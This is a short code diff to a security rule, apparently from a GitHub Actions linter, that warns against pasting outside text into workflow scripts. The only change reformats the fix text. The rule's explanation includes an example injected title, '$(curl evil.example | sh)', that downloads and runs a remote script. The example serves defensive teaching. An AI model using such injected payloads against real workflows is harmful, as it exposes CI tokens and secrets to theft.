@@ -12,7 +12,7 @@ export default defineRule({
   title: "Scripts of workflows take in no text from outside",
   severity: "critical",
   why: "An expression is pasted into the script before the shell reads it: a title such as $(curl evil.example | sh) runs with the job's token and secrets.",
-  fix: 'Put the expression into env: of the step (TITLE: ${{ github.event.issue.title }}) and write "$TITLE" in the script, or process.env.TITLE in JavaScript.',
+  fix: 'Put the expression into `env:` of the step (`TITLE: ${{ github.event.issue.title }}`) and write `"$TITLE"` in the script, or `process.env.TITLE` in JavaScript.',
   references: [
     "https://docs.github.com/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
   ],
